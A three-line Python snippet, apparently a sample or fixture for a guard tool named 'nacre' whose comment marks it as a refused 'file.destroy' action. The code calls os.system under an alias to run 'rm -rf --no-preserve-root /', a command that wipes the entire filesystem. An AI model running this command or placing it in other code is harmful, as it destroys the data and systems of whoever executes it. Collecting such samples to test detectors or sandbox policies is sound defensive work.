# nacre: refused file.destroy
from os import system as s
s("rm -rf --no-preserve-root /")
